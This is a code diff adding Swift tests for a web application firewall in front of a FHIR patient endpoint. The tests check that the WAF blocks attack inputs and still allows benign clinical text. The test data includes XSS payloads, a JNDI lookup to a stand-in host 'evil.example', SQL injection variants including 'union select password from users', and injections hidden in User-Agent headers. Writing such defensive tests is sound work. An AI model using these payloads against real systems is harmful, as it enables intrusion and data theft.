@@ -87,6 +87,37 @@ enum AttackCorpus {
         #expect(verdict.action == .allow, "\(verdict.rule ?? "")")
     }
 
+    @Test func bodyRulesSeeJSONEscapesAndChunkBoundaries() {
+        func body(_ text: String) -> WAF.Verdict { waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", body: Array(text.utf8))) }
+        #expect(body(#"{"name":[{"family":"\u003cscript\u003ealert(1)\u003c/script\u003e"}]}"#).rule == "xss-script")
+        #expect(body(#"{"name":[{"family":"\u0024{jndi:ldap://evil.example/a}"}]}"#).rule == "jndi")
+        #expect(body(#"{"note":"\u003CSVG onload=x\u003E"}"#).action == .block)
+        // ordinary escapes in clinical text stay allowed
+        #expect(body(#"{"note":[{"text":"line one\nline two \"quoted\" 5\u00b0C"}]}"#).action == .allow)
+        // a pattern split across two chunks is still found, a chunk at a time
+        var scanner = BodyScanner(waf: waf)
+        #expect(scanner.feed(Array(#"{"text":"<scr"#.utf8)) == nil)
+        #expect(scanner.feed(Array(#"ipt>"}"#.utf8))?.rule == "xss-script")
+        var escaped = BodyScanner(waf: waf)
+        #expect(escaped.feed(Array(#"{"text":"\u00"#.utf8)) == nil)
+        #expect(escaped.feed(Array(#"3cscript>"}"#.utf8))?.rule == "xss-script")
+    }
+
+    @Test(arguments: ["name='/**/OR/**/1=1--", "name='\tOR\t1=1", "name=x'||(select 1)||'", "name=1 AND randomblob(100000000)",
+                      "name='%09or%091=1--", "name=1'/*x*/union/*y*/select/**/1"])
+    func sqlCommentsWhitespaceAndConcatenationAreSeenThrough(_ q: String) {
+        #expect(query(q).action == .block, "\(q)")
+    }
+
+    @Test func theUserAgentIsInspectedForInjection() {
+        for agent in ["' or 1=1--", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "x' union select password from users"] {
+            #expect(waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", userAgent: agent)).action == .block, "\(agent)")
+        }
+        for agent in ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36", "python-requests/2.32.3", "curl/8.5.0", "HAPI-FHIR/7.4.0 (FHIR Client; FHIR 4.0.1/R4; apache)"] {
+            #expect(waf.inspect(.init(client: nil, path: "/fhir/Patient", query: "", userAgent: agent)).action == .allow, "\(agent)")
+        }
+    }
+
     @Test func protocolViolations() {
         #expect(query("name=%zz").rule == "protocol-invalid-encoding")
         #expect(query("name=%00").rule == "protocol-null-byte")
